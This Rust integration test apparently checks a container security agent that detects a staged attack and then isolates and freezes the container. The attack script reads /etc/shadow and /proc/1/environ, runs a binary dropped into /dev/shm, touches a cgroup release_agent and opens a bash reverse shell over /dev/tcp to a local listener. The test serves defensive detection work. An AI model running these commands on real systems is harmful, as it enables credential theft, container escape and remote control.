mod root {
    use std::collections::BTreeMap;
    use std::io::Read as _;
    use std::net::TcpListener;
    use std::path::Path;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::Duration;

    use palisade_agent::detector::load_rules;
    use palisade_agent::{
        Agent, BUILTIN_RULES, ContainerFiles, Detector, Notice, ResponseMeans, Settings,
    };
    use palisade_bpf::{CgroupFilter, Options};
    use palisade_model::{IncidentState, Verdict};
    use palisade_policy::Action;
    use palisade_respond::BpfNetwork;
    use palisade_respond::bundle::verify;
    use palisade_respond::evidence::EvidenceOptions;
    use palisade_rules::LoadOptions;
    use palisade_sensor::identity::HostPaths;

    use crate::support::{Sandbox, is_root, line, policy, stop_after};

    fn detector(records: &Path, cgroup: u64) -> Detector {
        let (rules, diagnostics) = load_rules(&BUILTIN_RULES, &LoadOptions::default());
        assert!(!diagnostics.has_errors(), "{diagnostics}");
        let paths = HostPaths { palisade_containers: records.into(), ..HostPaths::default() };
        // This machine may be busy with other things, such as compiling the next test.
        let cgroups = CgroupFilter::Only(vec![cgroup]);
        let options = Options { cgroups, ..Options::default() };
        let (detector, started) = Detector::start(rules, &options, paths).unwrap();
        assert!(started.n_rules >= 25 && started.processes.n_processes > 0, "{started:?}");
        detector
    }

    fn agent(state: &Path, actions: &[Action]) -> Agent {
        let means = ResponseMeans {
            evidence: state.join("evidence"),
            options: EvidenceOptions::default(),
            network: std::sync::Arc::new(BpfNetwork::default()),
            signer: None,
            sealing: None,
            locate: Box::new(|_| ContainerFiles::default()),
        };
        Agent::open(Settings::new(state, "host", "palisade test"), policy(actions), means)
            .unwrap()
            .0
    }

    /// A shell that waits for its command until it is inside the container.
    fn attack(sandbox: &mut Sandbox, script: &str) {
        sandbox.run_bash(script);
    }

    #[test]
    fn an_attack_is_seen_and_stopped() {
        if !is_root() {
            return;
        }
        let folder = tempfile::tempdir().unwrap();
        let records = folder.path().join("containers");
        std::fs::create_dir(&records).unwrap();
        let mut sandbox = Sandbox::recorded(&records);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mut source = detector(&records, sandbox.group.id().unwrap());
        let agent = agent(folder.path(), &Action::ALL);
        let stop = Arc::new(AtomicBool::new(false));
        let stopper = Arc::clone(&stop);
        attack(
            &mut sandbox,
            &format!(
                "sleep 0.3\n\
                 cat /etc/shadow >/dev/null\n\
                 cp /bin/true /dev/shm/palisade-test-$$; /dev/shm/palisade-test-$$; rm /dev/shm/palisade-test-$$\n\
                 (: >/sys/fs/cgroup/nowhere/release_agent) 2>/dev/null\n\
                 cat /proc/1/environ >/dev/null\n\
                 exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash -i <&3 >&3 2>&3\n"
            ),
        );
        // Somebody has to answer, or the shell's connect would be refused.
        let server = std::thread::spawn(move || {
            let (mut connection, _) = listener.accept().unwrap();
            // Once the network is cut, not even the end of the connection comes through.
            connection.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
            let mut bytes = [0; 64];
            let _ = connection.read(&mut bytes);
        });
        stop_after(&stop, Duration::from_mins(1));
        let mut lines = Vec::new();
        let mut alerts = BTreeMap::new();
        let mut reaction = None;
        let status = agent
            .run(&mut source, &stop, &mut |notice| {
                match &notice {
                    Notice::Alert { alert, .. } => {
                        let own =
                            alert.container.as_ref().is_some_and(|c| c.id == sandbox.container.id);
                        if own {
                            alerts.insert(alert.rule.clone(), (*alert).clone());
                        }
                    }
                    Notice::Action { outcome, .. } if outcome.action == Action::Freeze => {
                        reaction = alerts.values().map(|a| a.time).max().map(|time| {
                            (outcome.started + Duration::from_nanos(outcome.duration_ns))
                                .since(time)
                        });
                    }
                    Notice::Incident { incident } if incident.state == IncidentState::Contained => {
                        stopper.store(true, Ordering::Relaxed);
                    }
                    _ => {}
                }
                lines.push(line(&notice));
            })
            .unwrap();
        for (rule, alert) in &alerts {
            eprintln!(
                "{rule}: {:?} after {:?}: {}",
                alert.verdict(),
                alert.latency(),
                alert.output
            );
        }
        eprintln!(
            "from the critical event to the frozen container: {reaction:?}; losses {:?}",
            status.source.losses
        );
        for rule in [
            "Sensitive file read",
            "Dropped program executed",
            "Environment of another process read",
        ] {
            assert!(alerts.contains_key(rule), "{rule}: {lines:#?}");
        }
        let stopped = alerts.get("Reverse shell").or(alerts.get("Shell on a network connection"));
        let stopped = stopped.unwrap_or_else(|| panic!("{lines:#?}"));
        assert_eq!(stopped.verdict(), Verdict::Detected);
        assert!(stopped.process.is_some());
        assert!(lines.contains(&"action isolate Done".to_string()), "{lines:#?}");
        assert!(lines.contains(&"incident Contained".to_string()), "{lines:#?}");
        assert!(sandbox.is_dead());
        server.join().unwrap();
        let bundle = std::fs::read_dir(folder.path().join("evidence")).unwrap().next().unwrap();
        let verified =
            verify(&bundle.unwrap().path(), palisade_respond::bundle::Opening::default()).unwrap();
        assert!(verified.manifest.case.frozen);
        let network = BpfNetwork::default();
        let id = sandbox.container.id.clone();
        let swept = network.sweep(&|pinned| pinned != id).unwrap();
        assert_eq!(swept, [id]);
    }
}
